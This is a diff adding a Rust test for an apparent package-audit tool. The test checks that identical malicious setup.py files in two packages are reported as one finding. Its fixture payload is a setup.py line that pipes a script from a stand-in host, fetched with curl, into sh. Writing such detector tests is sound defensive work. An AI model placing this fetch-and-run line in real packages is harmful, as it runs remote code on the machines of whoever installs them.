@@ -207,3 +207,22 @@ fn several_inputs_are_one_audit() {
     assert_eq!(both.code, 1);
     assert_eq!(run(&["audit", "-", "-"]).code, 2);
 }
+
+#[test]
+fn every_package_that_holds_the_same_payload_is_named() {
+    let folder = tempfile::tempdir().unwrap();
+    let payload = "import os\nos.system('curl -s https://updates.example.test/a.sh | sh')\n";
+    for package in ["one", "two"] {
+        fs::create_dir(folder.path().join(package)).unwrap();
+        fs::write(folder.path().join(package).join("setup.py"), payload).unwrap();
+    }
+    let audited = audit(folder.path(), &[]);
+    let findings = audited.json["findings"].as_array().unwrap();
+    let items: Vec<_> = findings.iter().filter(|finding| finding["level"] != "note").collect();
+    assert_eq!(items.len(), 1, "one item: {items:?}");
+    assert_eq!(items[0]["places"], 1);
+    let paths = [&items[0]["place"], &items[0]["also"][0]].map(|place| place["path"].as_str().unwrap());
+    assert_eq!(paths, ["one/setup.py", "two/setup.py"]);
+    let terminal = run(&["audit", folder.path().to_str().unwrap()]);
+    assert!(terminal.out.contains("Also in: ") && terminal.out.contains("two/setup.py"), "{}", terminal.out);
+}
